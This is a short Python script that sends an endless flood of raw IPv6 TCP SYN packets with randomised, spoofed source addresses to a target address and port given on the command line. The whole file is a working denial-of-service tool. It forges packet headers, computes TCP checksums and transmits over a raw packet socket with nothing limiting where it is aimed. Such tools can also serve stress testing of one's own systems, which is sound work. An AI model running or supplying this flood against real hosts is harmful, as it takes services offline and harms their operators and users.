"""A flood of IPv6 SYNs from addresses that nobody has, until it is stopped.

usage: syns6.py DEVICE ETHERNET-ADDRESS ADDRESS PORT MICROSECONDS
"""
import os
import socket
import struct
import sys
import time

device, hardware, address, port, pause = sys.argv[1:]
target = socket.inet_pton(socket.AF_INET6, address)
link = bytes.fromhex(hardware.replace(":", "")) + b"\x02\0\0\0\0\x99" + b"\x86\xdd"


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn():
    source = b"\x20\x01\x0d\xb8" + os.urandom(12)
    options = b"\x02\x04\x05\xa0"
    tcp = os.urandom(2) + struct.pack("!H", int(port)) + os.urandom(4) + struct.pack("!IBBHHH", 0, 6 << 4, 2, 512, 0, 0)
    tcp += options
    pseudo = source + target + struct.pack("!II", len(tcp), socket.IPPROTO_TCP)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return link + struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + source + target + tcp


with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
    out.bind((device, 0))
    while True:
        out.send(syn())
        time.sleep(int(pause) * 1e-6)
